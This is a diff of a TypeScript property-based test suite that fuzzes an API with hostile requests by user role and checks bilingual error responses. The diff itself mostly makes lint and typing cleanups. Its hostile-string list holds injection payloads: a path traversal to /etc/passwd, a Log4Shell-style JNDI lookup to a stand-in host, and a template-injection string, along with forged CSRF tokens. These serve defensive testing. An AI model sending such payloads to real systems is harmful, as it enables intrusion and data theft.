@@ -201,6 +201,7 @@ const REFUSED_RUNS = Number(process.env.HOSTILE_REFUSED_RUNS ?? 1500);
 /** One seed per chunk of a run, far apart for neighbouring SEEDs (SEED + n would replay another run's chunks). */
 const derivedSeed = (n: number) => Math.imul(SEED ^ 0x5bd1e995, 0x9e3779b1) ^ Math.imul(n + 2, 0x85ebca6b);
 
+// biome-ignore lint/suspicious/noExplicitAny: generated bodies and the OpenAPI document's JSON Schemas are walked generically; their shape is what is under test.
 type Json = Record<string, any>;
 type Role = 'stranger' | 'anon' | 'owner' | 'admin' | 'member';
 const ROLES: Role[] = ['stranger', 'anon', 'owner', 'admin', 'member'];
@@ -267,6 +268,7 @@ const HOSTILE_STRINGS = [
   '../../../../etc/passwd',
   '%00',
   '%E0%A4%A',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style payload, meant literally.
   '${jndi:ldap://x.example/a}',
   '{{constructor.constructor("return process")()}}',
   '{name}',
@@ -619,8 +621,10 @@ function build(
     else if (m.kind === 'deep') raw = deepJson(m.depth);
     else if (m.kind === 'top') body = m.value;
     else if (m.kind === 'type') type = m.value;
-    else if (m.kind === 'csrf') csrf = m.value === 'none' ? false : ((headers['x-csrf-token'] = 'forged-token'), true);
-    else if (m.kind === 'big') raw = JSON.stringify({ text: 'x'.repeat(1_100_000) });
+    else if (m.kind === 'csrf') {
+      csrf = m.value !== 'none';
+      if (csrf) headers['x-csrf-token'] = 'forged-token';
+    } else if (m.kind === 'big') raw = JSON.stringify({ text: 'x'.repeat(1_100_000) });
   }
   if (raw === undefined && body !== undefined) raw = JSON.stringify(body);
   if (['GET', 'HEAD'].includes(parts.method)) raw = undefined;
@@ -733,15 +737,17 @@ function refusedArb(routes: Route[], known: Known): fc.Arbitrary<HostileRequest>
   });
 }
 
-function errorShapeProblem(json: any): string | null {
-  if (!json || typeof json !== 'object') return 'not JSON';
+const isRecord = (v: unknown): v is Record<string, unknown> => !!v && typeof v === 'object';
+
+function errorShapeProblem(json: unknown): string | null {
+  if (!isRecord(json)) return 'not JSON';
   if (typeof json.code !== 'string' || !json.code) return 'no code';
   // Both languages present, and rendered: an ICU placeholder left as `{name}` means a value was not passed.
-  const bilingual = (b: any) =>
-    b && typeof b.ar === 'string' && b.ar && typeof b.en === 'string' && b.en && !/\{\w+\}/.test(b.ar + b.en);
+  const bilingual = (b: unknown) =>
+    isRecord(b) && typeof b.ar === 'string' && b.ar && typeof b.en === 'string' && b.en && !/\{\w+\}/.test(b.ar + b.en);
   if (!bilingual(json.errorMessage)) return 'no bilingual errorMessage';
   if (json.fields !== undefined) {
-    if (typeof json.fields !== 'object') return 'fields not an object';
+    if (!isRecord(json.fields)) return 'fields not an object';
     for (const [k, v] of Object.entries(json.fields)) if (!bilingual(v)) return `field ${k} not bilingual`;
   }
   return null;
@@ -756,7 +762,7 @@ describe('hostile-input suite (fast-check, from the route schemas)', () => {
   const clients = new Map<Role, TestClient>();
   /** Each role's cookies as signed in: put back before every request, since any 401 answer clears them (DESIGN §5). */
   const jars = new Map<Role, Map<string, string>>();
-  let routes: Route[] = [];
+  const routes: Route[] = [];
   let known: Known;
 
   async function signIn(role: Role) {
@@ -831,7 +837,11 @@ describe('hostile-input suite (fast-check, from the route schemas)', () => {
           union all select 'conversations', id::text from conversations`,
     );
     const byKind: Record<string, string[]> = {};
-    for (const { kind, id } of ids) (byKind[kind] ??= []).push(id);
+    for (const { kind, id } of ids) {
+      const list = byKind[kind] ?? [];
+      list.push(id);
+      byKind[kind] = list;
+    }
     const numbers = await queryRows<{ number: string }>(runtime.db, sql`select number::text from meetings`);
     return {
       ids: { ...byKind, all: ids.map((r) => r.id) },
